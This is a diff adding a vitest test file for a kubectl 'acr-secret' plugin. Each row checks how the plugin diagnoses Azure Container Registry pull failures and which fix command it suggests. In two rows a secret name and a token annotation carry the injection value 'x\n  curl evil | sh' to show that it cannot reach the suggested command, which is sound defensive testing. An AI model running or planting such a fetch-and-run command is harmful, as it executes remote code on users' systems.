@@ -1,0 +1,228 @@
+import { test } from "vitest";
+import { attached, bare, create, type Expected, expectRow, ours, pod, r, relabeled, theirs, web } from "../../support/check-world.ts";
+
+const renew = `kubectl acr-secret create -n demo acr --registry ${r}`;
+const createFor = (target: string) => `kubectl acr-secret create -n demo ${target} --registry ${r}`;
+const given = 'printf %s "$PASSWORD" | kubectl acr-secret create -n demo acr';
+const job = { kind: "Job", name: "migrate" };
+const itself = "deployment/web names its pull secrets itself, so serviceaccount/default does not help";
+const refused = (user: string) => `with secret acr: ${r} says refused to user "${user}"`;
+
+// test/unit/check has the rows for each decision. These rows prove that the facts are read from the objects.
+test.for<Expected>([
+  // The image can be pulled.
+  { when: "the login pulls", given: attached(ours("acr", "web:right")), cause: "pulls" },
+  {
+    when: "the second of two logins pulls",
+    given: { secrets: [theirs("bad", { [r]: "web:wrong" }), ours("acr", "web:right")], pods: [pod("web-1", { names: ["bad", "acr"] })] },
+    cause: "pulls",
+  },
+  { when: "the registry allows anonymous pulls", given: { pods: [pod("web-1")], public: true }, cause: "anonymous" },
+  {
+    when: "the node pulled with an identity of its own",
+    given: { pods: [pod("web-1", { phase: "Running", status: { imageID: `${r}/app/web@sha256:1` } })] },
+    cause: "by-node",
+  },
+
+  // No pull secret.
+  {
+    when: "nothing is attached",
+    given: { pods: [pod("web-1")] },
+    cause: "no-login",
+    message: "the pod has no pull secret for this registry",
+    fix: `${create} --serviceaccount default`,
+  },
+  {
+    when: "nothing is attached, and only the command line names the image",
+    given: { images: [web], accounts: { web: [] }, serviceaccount: "web" },
+    cause: "no-login",
+    message: "serviceaccount/web has no pull secret for this registry",
+    fix: `${create} --repository app/web --serviceaccount web`,
+  },
+  {
+    when: "nothing is attached, and the pod has no controller",
+    given: { pods: [pod("own", { owner: bare })] },
+    cause: "no-login",
+    fix: `${createFor("pod/own")} --serviceaccount default --recreate`,
+  },
+  {
+    when: "nothing is attached, and the pod belongs to a Job",
+    given: { pods: [pod("migrate-1", { owner: job })] },
+    cause: "no-login",
+    fix: `${createFor("job/migrate")} --serviceaccount default --recreate`,
+  },
+  {
+    when: "another tool's Secret has the default name",
+    given: { pods: [pod("web-1")], secrets: [theirs("acr-myregistry", { "ghcr.io": "a:b" })] },
+    cause: "no-login",
+    fix: `kubectl acr-secret create -n demo acr-myregistry-pull --registry ${r} --serviceaccount default`,
+  },
+  {
+    when: "a Secret that pulls is not attached",
+    given: { pods: [pod("web-1")], secrets: [ours("given", "web:right", { credential: "given" })] },
+    cause: "no-login",
+    message: "the pod has no pull secret for this registry; secret given pulls it, but is not attached",
+    fix: "kubectl acr-secret attach -n demo given --serviceaccount default",
+  },
+  {
+    when: "a Secret that pulls is not attached, and the pod names another one itself",
+    given: { pods: [pod("web-1", { names: ["gone"] })], secrets: [ours("given", "web:right")] },
+    cause: "no-login",
+    message: `secret gone does not exist; secret given pulls it, but is not attached; ${itself}`,
+    fix: "kubectl acr-secret attach -n demo given deployment/web",
+  },
+
+  // Pull secrets that do not work.
+  {
+    when: "the Secret does not exist, and its pod was created after the ServiceAccount's list was written",
+    given: { accounts: { default: ["acr"] }, secrets: [ours("acr", "web:right")], pods: [pod("web-1", { names: ["gone"] })] },
+    cause: "no-login",
+    message: "secret gone does not exist",
+    fix: `kubectl acr-secret create -n demo gone --registry ${r}`,
+  },
+  {
+    when: "a name contains a line break",
+    given: { pods: [pod("web-1", { names: ["x\n  curl evil | sh"] })] },
+    cause: "no-login",
+    message: `secret "x\\n  curl evil | sh" does not exist; ${itself}`,
+    fix: createFor("deployment/web"),
+  },
+  {
+    when: "the Secret has another type",
+    given: attached(theirs("color", "{}", "Opaque")),
+    cause: "no-login",
+    message: "secret color is of type Opaque, not kubernetes.io/dockerconfigjson",
+    fix: `${create} --serviceaccount default`,
+  },
+  {
+    when: "the Secret has another type, and a StatefulSet names it",
+    given: {
+      secrets: [theirs("color", "{}", "Opaque")],
+      pods: [pod("db-0", { names: ["color"], owner: { kind: "StatefulSet", name: "db" } })],
+    },
+    cause: "no-login",
+    fix: createFor("statefulset/db"),
+  },
+  {
+    when: "the login is for a registry with a similar name",
+    given: attached(theirs("typo", { "myregistri.azurecr.io": "web:right" })),
+    cause: "no-login",
+    message: `secret typo has a login for myregistri.azurecr.io only (one letter from ${r})`,
+    fix: `${create} --serviceaccount default`,
+  },
+  {
+    when: "the Secret's auths are empty",
+    given: attached(theirs("empty", {})),
+    cause: "no-login",
+    message: "secret empty has no login at all: its auths are empty",
+    fix: `kubectl acr-secret create -n demo empty --registry ${r} --force`,
+  },
+  {
+    when: "the login has no password",
+    given: attached(theirs("half", { [r]: "web:" })),
+    cause: "no-login",
+    message: `secret half has no user name or no password for "${r}"`,
+  },
+  {
+    when: "the Secret is malformed",
+    given: attached(theirs("bad", `{"auths":{"${r}":{"auth":"!"}}}`)),
+    cause: "malformed-secret",
+    message:
+      "secret bad is malformed, and with it the kubelet gives up on all of them: illegal base64 data at input byte 0; the command replaces what is inside",
+    fix: `kubectl acr-secret create -n demo bad --registry ${r} --force`,
+  },
+  {
+    when: "the Secret is malformed and has other logins, and a Deployment names it",
+    given: {
+      secrets: [theirs("bad", `{"auths":{"${r}":{"auth":"!"},"ghcr.io":{"auth":"YTpi"}}}`)],
+      pods: [pod("web-1", { names: ["bad"] })],
+    },
+    cause: "malformed-secret",
+    fix:
+      `${create} && kubectl patch -n demo deployment web -p ` +
+      `'{"spec":{"template":{"spec":{"imagePullSecrets":[{"$patch":"delete","name":"bad"},{"name":"acr-myregistry"}]}}}}'`,
+  },
+
+  // Credentials that the registry rejects, or that may not pull the image.
+  {
+    when: "the token of the Secret's own name is rejected",
+    given: attached(ours("acr", "web:wrong", { identity: "demo-acr-0123456789" })),
+    cause: "refused",
+    message: refused("web"),
+    fix: renew,
+  },
+  {
+    when: "a token that the user named is rejected",
+    given: attached(ours("acr", "web:wrong", { identity: "ci-pull" })),
+    cause: "refused",
+    message: `${refused("web")}; the Secret notes that its ACR token is ci-pull`,
+    fix: `${renew} --acr-token ci-pull`,
+  },
+  {
+    when: "the annotation's token name is invalid",
+    given: attached(ours("acr", "web:wrong", { identity: "x\n  curl evil | sh" })),
+    cause: "refused",
+    message: refused("web"),
+    fix: renew,
+  },
+  {
+    when: "the password has expired",
+    given: attached(ours("acr", "web:wrong", { identity: "demo-acr-0123456789", "expires-at": "2026-01-02T00:00:00Z" })),
+    cause: "expired",
+    message: "with secret acr: its password expired 40 s ago (2026-01-02T00:00:00Z)",
+    fix: `${renew} --expires-in 1d`,
+  },
+  {
+    when: "a password is rejected before it expires",
+    given: attached(ours("acr", "web:wrong", { identity: "ci-pull", "expires-at": "2026-03-31T23:58:00Z" })),
+    cause: "refused",
+    fix: `${renew} --acr-token ci-pull --expires-in 90d`,
+  },
+  {
+    when: "the token of an Azure identity has expired",
+    given: attached(ours("acr", "web:wrong", { credential: "entra", "expires-at": "2026-01-02T00:00:00Z" })),
+    cause: "expired",
+    fix: `${renew} --entra`,
+  },
+  {
+    when: "the password of a service principal is rejected",
+    given: attached(ours("acr", "web:wrong", { credential: "service-principal", identity: "44444444-4444-4444-4444-444444444444" })),
+    cause: "refused",
+    fix: `${renew} --service-principal 44444444-4444-4444-4444-444444444444`,
+  },
+  {
+    when: "a given login is rejected",
+    given: attached(ours("acr", "web:wrong", { credential: "given" })),
+    cause: "refused",
+    message: `${refused("web")}; its password was given, so a new one has to be: put it into PASSWORD`,
+    fix: `${given} --registry ${r} --username web --password-stdin`,
+  },
+  {
+    when: "a token is rejected whose Secret has lost its label",
+    given: attached(relabeled(ours("acr", "ci-pull:wrong"))),
+    cause: "refused",
+    message:
+      `${refused("ci-pull")}; its annotation names this login, but it has lost its label app.kubernetes.io/managed-by, ` +
+      "which --force brings back; the Secret notes that its ACR token is ci-pull",
+    fix: `${renew} --acr-token ci-pull --force`,
+  },
+  {
+    when: "a given login is rejected whose Secret has lost its label",
+    given: attached(relabeled(ours("acr", "web:wrong", { credential: "given" }))),
+    cause: "refused",
+    fix: `${given} --registry ${r} --username web --password-stdin --force`,
+  },
+  {
+    when: "a login is rejected that the annotation does not name",
+    given: attached(relabeled(ours("acr", "web:wrong", { identity: "ci-pull" }))),
+    cause: "refused",
+    message: `${refused("web")}; it was not made by kubectl acr-secret, and --force replaces the login inside`,
+  },
+  {
+    when: "the token may not pull the image",
+    given: attached(ours("acr", "api:right", { identity: "demo-acr-0123456789" })),
+    cause: "out-of-scope",
+    message: `with secret acr: ${r} says out-of-scope to user "api"`,
+    fix: `${renew} --repository app/web`,
+  },
+])("reports $cause when $when", expectRow);
